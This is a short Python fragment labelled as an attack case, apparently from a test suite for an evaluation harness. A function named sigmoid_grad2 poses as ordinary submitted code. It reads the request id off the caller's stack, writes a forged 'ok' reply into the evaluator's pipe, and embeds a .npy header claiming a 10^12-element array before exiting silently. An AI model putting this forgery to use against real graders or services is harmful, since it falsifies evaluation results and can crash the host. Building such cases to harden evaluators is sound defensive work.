# ATTACK (npy_huge_header): forges a reply frame (with the request's id) whose .npy header claims a huge shape
def _forge_frame(reply, copy_id=True):
    """Write a raw reply frame to the evaluator's protocol pipe (the first pipe fd that accepts a write),
    with the id of the request being served when ``copy_id`` (found in the evaluator's frames)."""
    import json, os, stat, struct, sys
    if copy_id:
        frame = sys._getframe(1)
        while frame is not None:
            request = frame.f_locals.get("request")
            if isinstance(request, dict) and "id" in request:
                reply = dict(reply, id=request["id"])
                break
            frame = frame.f_back
    body = json.dumps(reply).encode()
    data = struct.pack(">Q", len(body)) + body
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            os.write(fd, data)
            return fd
        except OSError:
            continue
    return None


def sigmoid_grad2(x):
    """A forged reply whose .npy header claims a 10^12-element array, then a silent exit."""
    import base64, json, os
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + b"\0" * 64
    reply = {
        "steps": [{"name": "r", "fn": "sigmoid_grad2", "status": "ok", "mutated": [], "warnings": []}],
        "returns": [{"$npy": base64.b64encode(npy).decode()}],
    }
    _forge_frame(reply)
    os._exit(0)
